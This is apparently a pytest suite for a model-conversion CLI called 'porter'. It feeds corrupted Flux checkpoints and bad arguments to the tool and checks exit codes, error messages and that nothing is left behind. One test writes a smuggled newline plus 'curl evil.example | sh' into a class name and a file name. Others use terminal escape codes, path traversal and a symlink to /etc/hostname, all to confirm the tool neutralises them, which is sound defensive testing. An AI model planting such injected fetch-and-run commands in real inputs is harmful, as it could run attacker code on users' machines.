"""Bad input to plan and convert: exit code, a message that names the thing and the next step, nothing left behind."""

from __future__ import annotations

import json
import os
import shlex
import shutil
import subprocess
import sys
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

import pytest
from safetensors.torch import load_file, save_file

from porter import cli

ROOT = Path(__file__).parents[2]
POINTER = "version https://git-lfs.github.com/spec/v1\noid sha256:" + "0" * 64 + "\nsize 23802932552\n"


def edit_json(name: str, **changes: object) -> Callable[[Path], None]:
    def do(model: Path) -> None:
        document = json.loads((model / name).read_text())
        (model / name).write_text(json.dumps({**document, **changes}))

    return do


def edit_tensors(name: str, change: Callable[[dict], object]) -> Callable[[Path], None]:
    def do(model: Path) -> None:
        tensors = load_file(model / name)
        change(tensors)
        save_file(tensors, model / name)

    return do


def edit_bytes(name: str, change: Callable[[bytes], bytes]) -> Callable[[Path], None]:
    def do(model: Path) -> None:
        (model / name).write_bytes(change((model / name).read_bytes()))

    return do


def write(name: str, text: str) -> Callable[[Path], None]:
    return lambda model: (model / name).write_text(text) and None


def remove(*names: str) -> Callable[[Path], None]:
    def do(model: Path) -> None:
        for name in names:
            shutil.rmtree(model / name) if (model / name).is_dir() else (model / name).unlink()

    return do


def make_folder(name: str) -> Callable[[Path], None]:
    """A folder with a file in it, where a file was."""

    def do(model: Path) -> None:
        (model / name).unlink()
        (model / name).mkdir()
        (model / name / "x.json").write_text("{}")

    return do


def link(name: str, target: str) -> Callable[[Path], None]:
    return lambda model: (model / name).symlink_to(target)


FLUX, AE, QKV = "flux1-tiny.safetensors", "ae.safetensors", "double_blocks.1.img_attn.qkv.weight"


@dataclass(frozen=True)
class Case:
    """`spoil` is done to a copy of the embedded model; `words` must stand in the message. None: the verb accepts it."""

    name: str
    spoil: Callable[[Path], None]
    words: tuple[str, ...]
    plan: int | None
    convert: int


ENCODERS = ("text_encoder", "text_encoder_2")
CASES = [
    Case("not-a-pipeline", remove("model_index.json", FLUX, AE, *ENCODERS), ("not a pipeline",), 6, 6),
    Case("empty-folder", lambda m: remove(*(p.name for p in m.iterdir()))(m), ("empty folder",), 6, 6),
    Case("index-is-no-json", write("model_index.json", "{"), ("model_index.json", "JSON"), 6, 6),
    Case("index-is-no-object", write("model_index.json", "[1]"), ("pipeline class",), 6, 6),
    Case("config-is-no-json", write("transformer/config.json", "{,}"), ("transformer/config.json", "JSON"), 6, 6),
    Case("config-is-no-object", write("vae/config.json", "3"), ("vae/config.json", "object"), 6, 6),
    Case("truncated", edit_bytes(FLUX, lambda b: b[:-7]), (FLUX, "truncated"), 6, 6),
    Case("truncated-in-header", edit_bytes(AE, lambda b: b[:100]), (AE, "truncated"), 6, 6),
    Case("too-short", edit_bytes(AE, lambda b: b[:3]), (AE, "short"), 6, 6),
    Case("corrupt-header", edit_bytes(AE, lambda b: b[:8] + b"!" * 40 + b[48:]), (AE, "JSON"), 6, 6),
    Case("huge-header", edit_bytes(AE, lambda b: b"\xff" * 8 + b[8:]), (AE, "header"), 6, 6),
    Case("longer-than-it-says", edit_bytes(AE, lambda b: b + b"\0"), (AE, "longer"), 6, 6),
    Case("missing-tensor", edit_tensors(FLUX, lambda t: t.pop(QKV)), (QKV,), None, 6),
    Case("extra-tensor", edit_tensors(FLUX, lambda t: t.update(img_on=t["img_in.bias"].clone())), ("img_on",), None, 6),
    Case("wrong-shape", edit_tensors(FLUX, lambda t: t.update({QKV: t[QKV][:-1].clone()})), (QKV, "575"), None, 6),
    Case("missing-block", edit_tensors(FLUX, lambda t: [t.pop(k) for k in [*t] if "single_blocks.2." in k]),
         ("single_blocks.2",), None, 6),
    Case("wrong-config", edit_json("transformer/config.json", num_layers=5), ("num_layers",), None, 6),
    Case("layers-without-end", edit_json("transformer/config.json", num_layers=10**9), ("num_layers",), 6, 6),
    Case("layers-are-words", edit_json("transformer/config.json", num_layers="x"), ("num_layers",), None, 6),
    Case("no-axes", edit_json("transformer/config.json", axes_dims_rope=None), ("axes_dims_rope",), None, 6),
    Case("unknown-class", edit_json("model_index.json", transformer=["diffusers", "HyperTransformer9D"]),
         ("HyperTransformer9D", "porter families"), None, 6),
    Case("escaping-component", edit_json("model_index.json", **{"../x": ["diffusers", "AutoencoderKL"]}),
         ("../x", "plain name"), 6, 6),
    Case("unknown-library", edit_json("model_index.json", vae=["my_code", "MyVAE"]), ("vae", "MyVAE"), None, 6),
    Case("missing-weights", remove("text_encoder/model.safetensors"), ("text_encoder",), None, 4),
    Case("missing-original", remove(FLUX), ("transformer",), None, 4),
    Case("pointer", write(FLUX, POINTER), (FLUX, "LFS pointer", "lfs pull"), None, 4),
    Case("pointer-to-copy", write("text_encoder/model.safetensors", POINTER), ("text_encoder", "lfs pull"), None, 4),
    Case("broken-pointer", write(FLUX, POINTER[:60]), (FLUX, "pointer"), 6, 6),
    Case("index-entry-is-no-pair", edit_json("model_index.json", vae=["diffusers"]), ("describes vae",), 6, 6),
    Case("nan-in-config", edit_json("transformer/config.json", num_layers=float("nan")), ("NaN",), 6, 6),
    Case("half-a-character", edit_json("vae/config.json", note="\ud800"), ("vae/config.json",), 6, 6),
    Case("half-a-character-in-header", edit_bytes(FLUX, lambda b: b.replace(b"img_in.bias", b"i\\ud800.bias", 1)),
         (FLUX, "surrogate"), 6, 6),
    Case("scale-is-no-number", edit_json("vae/config.json", scaling_factor="x"), ("scaling_factor",), None, 6),
    Case("block-number-without-end", edit_tensors(
        FLUX, lambda t: t.update({"double_blocks.999999999.x": t["img_in.bias"].clone()})), ("double_blocks.2",),
        None, 6),
    Case("name-is-no-utf8", lambda m: os.close(os.open(bytes(m) + b"/\xff.txt", os.O_CREAT)), ("UTF-8",), 6, 6),
    Case("link-loop", link("loop", "loop"), ("loop", "points nowhere"), 6, 6),
    Case("link-out", link("extra.json", "/etc/hostname"), ("extra.json", "leaves the folder"), 6, 6),
    Case("link-to-parent", link("vae/up", ".."), ("vae/up", "loop"), 6, 6),
    Case("index-is-a-folder", make_folder("model_index.json"), ("model_index.json", "folder"), 6, 6),
    Case("folders-without-end", lambda m: (m / "/".join("d" * 15)).mkdir(parents=True), ("12 levels",), 6, 6),
    Case("empty-tokenizer", write("tokenizer_2/tokenizer.json", ""), ("tokenizer_2/tokenizer.json", "JSON"), None, 6),
    Case("dangling-link", link("extra.json", "nowhere"), ("extra.json", "points nowhere"), 6, 6),
]  # fmt: skip


def listing(folder: Path) -> dict[str, tuple[int, int, int]]:
    """Everything below a folder, hidden too, with size, time and inode."""
    found = {}
    for path in folder.rglob("*"):
        state = path.lstat()
        found[path.relative_to(folder).as_posix()] = (state.st_size, state.st_mtime_ns, state.st_ino)
    return found


@pytest.mark.parametrize("case", CASES, ids=lambda case: case.name)
def test_bad_models(case: Case, tiny_flux: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    model = Path(shutil.copytree(tiny_flux, tmp_path / "model"))
    case.spoil(model)
    before = listing(tmp_path)
    planned = cli.main(["plan", str(model)])
    told = capsys.readouterr().err
    assert planned == (case.plan or 0), told
    if case.plan:
        complain(told, case.words)
    for arguments in ([], ["--dry-run"]):
        converted = cli.main(["convert", str(model), "-o", str(tmp_path / "port"), *arguments])
        shown = capsys.readouterr()
        assert converted == case.convert, shown.err
        assert shown.out == ""
        complain(shown.err, case.words)
        assert listing(tmp_path) == before


def complain(told: str, words: tuple[str, ...]) -> None:
    for word in words:
        assert word in told, f"{word!r} is not in: {told}"
    assert "next:" in told and "Traceback" not in told and "internal error" not in told


@dataclass(frozen=True)
class Use:
    """A whole command line; `{}` is an empty folder of the test, `{model}` the embedded model's folder."""

    arguments: tuple[str, ...]
    code: int
    words: tuple[str, ...]


USES = {
    "no-such-path": Use(("plan", "{}/none"), 4, ("no such path", "{}/none")),
    "name-too-long": Use(("plan", "x" * 5000), 4, ("cannot read",)),
    "device": Use(("convert", "/dev/zero", "-o", "{}/p"), 6, ("/dev/zero", "not a model")),
    "no-such-path-convert": Use(("convert", "{}/none", "-o", "{}/p"), 4, ("no such path",)),
    "no-such-builtin": Use(("convert", "builtin:none", "-o", "{}/p"), 4, ("builtin:tiny-flux",)),
    "output-exists": Use(("convert", "builtin:tiny-flux", "-o", "{model}"), 2, ("exists", "--overwrite")),
    "output-is-a-file": Use(("convert", "builtin:tiny-flux", "-o", "{model}/ae.safetensors"), 2, ("exists",)),
    "output-below-a-file": Use(
        ("convert", "builtin:tiny-flux", "-o", "{model}/ae.safetensors/p"), 5, ("cannot write",)
    ),
    "output-in-proc": Use(("convert", "builtin:tiny-flux", "-o", "/proc/porter/p"), 5, ("cannot write",)),
    "output-name-too-long": Use(("convert", "builtin:tiny-flux", "-o", "{}/" + "p" * 300), 5, ("cannot write",)),
    "overwrite-no-port": Use(("convert", "builtin:tiny-flux", "-o", "{model}", "--overwrite"), 2, ("no port",)),
    "unknown-component": Use(
        ("convert", "builtin:tiny-flux", "--component", "unet", "-o", "{}/p"), 2, ("unet", "transformer", "vae")
    ),
    "component-not-converted": Use(
        ("convert", "builtin:tiny-flux", "--component", "tokenizer", "-o", "{}/p"), 2, ("nothing to convert",)
    ),
    "unknown-dtype": Use(("convert", "builtin:tiny-flux", "--dtype", "float7", "-o", "{}/p"), 2, ("float7",)),
    "empty-dtype": Use(("convert", "builtin:tiny-flux", "--dtype", "", "-o", "{}/p"), 2, ("dtype",)),
    "revision-of-a-folder": Use(("plan", "{model}", "--revision", "main"), 2, ("--revision", "hub id")),
    "revision-of-a-builtin": Use(("plan", "builtin:tiny-flux", "--revision", "main"), 2, ("--revision", "hub id")),
    "two-components": Use(
        ("convert", "builtin:tiny-flux", "--component", "vae", "--component", "transformer", "-o", "{}/p"), 2, ("one",)
    ),
    "parity-of-a-builtin": Use(
        ("parity", "builtin:tiny-flux"), 6, ("porter convert builtin:tiny-flux -o tiny-flux-port",)
    ),
    "parity-of-a-file": Use(("parity", "{model}/ae.safetensors"), 4, ("is a file", "name its folder")),
    "source-without-checkout": Use(("parity", "{model}", "--source", "{}/none"), 2, ("--reference-repo",)),
    "no-such-source": Use(
        ("parity", "{model}", "--source", "{}/none", "--reference-repo", "{}"), 4, ("no such folder",)
    ),
    "report-among-the-weights": Use(("parity", "{model}", "-o", "{model}/vae"), 2, ("port's own files",)),
    "plan-out-without-name": Use(("plan", "builtin:tiny-flux", "-o", ""), 2, ("names no file",)),
    "no-config-file": Use(("convert", "{model}/ae.safetensors", "--config", "{}/c.json", "-o", "{}/p"), 4, ("c.json",)),
    "config-is-no-json": Use(
        ("convert", "{model}/ae.safetensors", "--config", "{model}/tokenizer/merges.txt", "-o", "{}/p"), 6, ("JSON",)
    ),
    "config-missing-key": Use(("convert", "{model}/ae.safetensors", "-o", "{}/p"), 6, ("scaling_factor", "--config")),
    "config-of-another": Use(
        ("convert", "{model}/ae.safetensors", "--config", "{model}/transformer/config.json", "-o", "{}/p"),
        6,
        ("config",),
    ),
    "no-recipe-file": Use(("convert", "builtin:tiny-flux", "--recipe", "{}/r.py", "-o", "{}/p"), 4, ("r.py",)),
    "recipe-does-not-run": Use(
        ("convert", "builtin:tiny-flux", "--recipe", "{model}/model_index.json", "-o", "{}/p"), 2, ("model_index.json",)
    ),
    "not-a-checkpoint": Use(("plan", "{model}/tokenizer/merges.txt"), 6, ("merges.txt", ".safetensors")),
    "restore-no-port": Use(("convert", "{model}", "--to", "original", "-o", "{}/p"), 2, ("nothing that a recipe",)),
    "plan-out-unwritable": Use(
        ("plan", "builtin:tiny-flux", "-o", "{model}/ae.safetensors/plan.json"), 5, ("plan.json",)
    ),
}


@pytest.mark.parametrize("name", list(USES))
def test_bad_commands(name: str, tiny_flux: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    use = USES[name]
    model, empty = Path(shutil.copytree(tiny_flux, tmp_path / "model")), tmp_path / "empty"
    empty.mkdir()
    before = listing(tmp_path)
    fill = [text.format(empty, model=model) for text in (*use.arguments, *use.words)]
    code = cli.main(fill[: len(use.arguments)])
    shown = capsys.readouterr()
    assert code == use.code, shown.err
    assert shown.out == ""
    complain(shown.err, tuple(fill[len(use.arguments) :]))
    assert listing(tmp_path) == before


def test_control_characters_of_a_model_do_not_reach_the_terminal(
    tiny_flux: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("FORCE_COLOR", "")
    model = Path(shutil.copytree(tiny_flux, tmp_path / "model"))
    edit_json("text_encoder/config.json", hidden_act="gelu\x1b]0;title\x07")(model)
    assert cli.main(["plan", str(model), "-v"]) == 0
    edit_json("model_index.json", vae=["diffusers", "\x1b]0;title\x07"])(model)
    assert cli.main(["convert", str(model), "-o", str(tmp_path / "port")]) == 6
    shown = capsys.readouterr()
    assert "\x1b" not in shown.out + shown.err
    assert "\\x1b]0;title" in shown.out and "\\x1b]0;title" in shown.err


def test_a_closed_stdout_is_no_crash() -> None:
    command = f"{shlex.quote(sys.executable)} -m porter.cli plan builtin:tiny-flux >&-"
    done = subprocess.run(["bash", "-c", command], capture_output=True, text=True, cwd=ROOT)
    assert (done.returncode, done.stderr) == (0, "")


@pytest.mark.parametrize(
    ("arguments", "word"),
    [(["--device", "meta", "a circle"], "meta"), (["\udcff"], "UTF-8")],
    ids=["meta-device", "prompt-is-no-utf8"],
)
def test_generate_refuses(
    arguments: list[str], word: str, tiny_port: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    assert cli.main(["generate", str(tiny_port), "-o", str(tmp_path / "o"), *arguments]) == 2
    complain(capsys.readouterr().err, (word,))
    assert not (tmp_path / "o").exists()


def test_the_gate_of_parity_is_finite(tiny_port: Path, capsys: pytest.CaptureFixture[str]) -> None:
    assert cli.main(["parity", str(tiny_port), "--gate", "inf"]) == 2
    complain(capsys.readouterr().err, ("--gate",))


def test_a_real_process_ends_in_the_same_code(tmp_path: Path) -> None:
    for arguments, code in ((("plan", "/no/such"), 4), (("convert", "/no/such", "-o", str(tmp_path / "p")), 4)):
        done = subprocess.run(
            [sys.executable, "-m", "porter.cli", *arguments], capture_output=True, text=True, cwd=ROOT
        )
        assert (done.returncode, done.stdout) == (code, "") and "next:" in done.stderr


def test_a_read_only_source_is_enough(tiny_flux: Path, tmp_path: Path) -> None:
    """Nothing is ever written beside the source, so a folder without write permission converts."""
    model = Path(shutil.copytree(tiny_flux, tmp_path / "model"))
    before = listing(model)
    for path in [model, *model.rglob("*")]:
        path.chmod(0o555 if path.is_dir() else 0o444)
    assert cli.main(["convert", str(model), "-o", str(tmp_path / "port"), "-q"]) == 0
    assert listing(model) == before
    assert (tmp_path / "port" / "manifest.json").stat().st_mode & 0o200
    for path in [model, *model.rglob("*")]:
        path.chmod(0o755 if path.is_dir() else 0o644)


def test_a_line_break_in_a_name_makes_no_line_of_ours(
    tiny_flux: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    model = Path(shutil.copytree(tiny_flux, tmp_path / "model"))
    edit_json("model_index.json", vae=["diffusers", "AutoencoderKL\nnext      curl evil.example | sh"])(model)
    (model / "w\nnext      curl evil.example.safetensors").write_bytes(b"x")
    cli.main(["plan", str(model)])
    cli.main(["convert", str(model), "-o", str(tmp_path / "port")])
    shown = capsys.readouterr()
    assert "evil.example" in shown.out + shown.err
    assert not [line for line in (shown.out + shown.err).splitlines() if line.startswith("next      curl")]


@pytest.mark.parametrize(("redirect", "code"), [("2>&-", 4), ("2>/dev/full", 4)])
def test_an_error_keeps_its_code_where_nobody_can_read_it(redirect: str, code: int) -> None:
    command = f"{shlex.quote(sys.executable)} -m porter.cli plan /nonexistent {redirect}"
    assert subprocess.run(command, shell=True, cwd=ROOT).returncode == code


def test_converting_with_stderr_closed(tmp_path: Path) -> None:
    command = (
        f"{shlex.quote(sys.executable)} -m porter.cli convert builtin:tiny-flux -o {tmp_path / 'p'} 2>&- >/dev/null"
    )
    assert subprocess.run(command, shell=True, cwd=ROOT).returncode == 0
